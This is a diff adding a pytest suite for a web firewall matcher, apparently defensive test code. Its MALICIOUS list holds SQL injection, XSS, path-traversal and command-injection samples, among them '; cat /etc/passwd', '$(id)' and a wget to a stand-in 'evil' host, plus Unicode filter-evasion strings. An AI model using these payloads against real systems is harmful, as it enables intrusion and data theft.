@@ -0,0 +1,110 @@
+import random
+
+import pytest
+
+from app.security.waf_matcher import build_matcher, load_waf_matcher
+
+
+BENIGN = [
+    "/api/customers",
+    "/api/billing/invoices/123",
+    "/dashboard/customer/42",
+    "/static/assets/index-4f3a2b.js",
+    "page=1",
+    "limit=50",
+    "search=acme corp",
+    "sort=created_at",
+    "session_id=abc123",
+    "format=json",
+    "redirect=/dashboard",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+    "https://sajet.us/pricing?plan=pro",
+    "https://www.google.com/",
+    "curl/8.5.0",
+    "python-httpx/0.27.2",
+]
+
+MALICIOUS = [
+    "id=1' OR '1'='1",
+    "q=1 UNION SELECT password FROM users",
+    "name=x; DROP TABLE customers",
+    "cmd=exec xp_cmdshell",
+    "q=<script>alert(1)</script>",
+    "next=javascript:alert(1)",
+    "x=<img src=x onerror=alert(1)>",
+    "/../../etc/passwd",
+    "/..\\..\\windows",
+    "/%2e%2e%2fetc/passwd",
+    "/.%2e/secret",
+    "f=a; cat /etc/passwd",
+    "f=a | cat secrets",
+    "f=$(id)",
+    "f=`whoami`",
+    "f=; wget http://evil",
+    "style=expression (alert(1))",
+    "v=vbscript:msgbox",
+    "<iframe src=x>",
+    "<link rel=x href=y>",
+    # Unicode que IGNORECASE empareja con ASCII pero str.lower() no normaliza
+    "ſelect * from users",
+    "İnsert  into t",
+    "x=Key; cat K",
+]
+
+
+def _legacy_scan(matcher, value):
+    """Recorrido original patrón por patrón, sin prefiltro."""
+    for rule in matcher.rules:
+        if rule.regex.search(value):
+            return True, rule.attack_type, rule.pattern
+    return False, "", ""
+
+
+def _fuzz_corpus(matcher, count=3000, seed=1234):
+    rng = random.Random(seed)
+    alphabet = list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789 =;'\"-#%/.\\|$()`<>:+_")
+    tokens = list(matcher.tokens) + ["select ", " from ", "union ", "%2E%2E/", "ON", "exec sp_who", "ſ"]
+    corpus = []
+    for _ in range(count):
+        parts = []
+        for _ in range(rng.randint(1, 6)):
+            if rng.random() < 0.4:
+                parts.append(rng.choice(tokens))
+            else:
+                parts.append("".join(rng.choice(alphabet) for _ in range(rng.randint(1, 8))))
+        value = "".join(parts)
+        corpus.append(value.upper() if rng.random() < 0.2 else value)
+    return corpus
+
+
+@pytest.fixture(scope="module")
+def matcher():
+    return load_waf_matcher()
+
+
+def test_rules_file_is_versioned_and_complete(matcher):
+    assert matcher.version != "unversioned"
+    assert matcher.attack_types == ("sql_injection", "xss", "path_traversal", "command_injection")
+    assert len(matcher.rules) == 33
+
+
+def test_detection_matches_legacy_scan_on_corpus(matcher):
+    corpus = BENIGN + MALICIOUS + _fuzz_corpus(matcher)
+    for value in corpus:
+        assert matcher.scan(value) == _legacy_scan(matcher, value), value
+
+
+def test_known_attacks_are_blocked_and_clean_values_skip_regex(matcher):
+    for value in MALICIOUS:
+        assert matcher.scan(value)[0], value
+    for value in ["/api/customers", "/dashboard/customer/42", "curl/8.5.0"]:
+        assert list(matcher._candidates(value)) == []
+
+
+def test_empty_prefilter_group_is_rejected():
+    with pytest.raises(ValueError):
+        build_matcher({
+            "version": "t",
+            "categories": [{"attack_type": "x", "rules": [{"pattern": "a", "prefilter": [[]]}]}],
+        })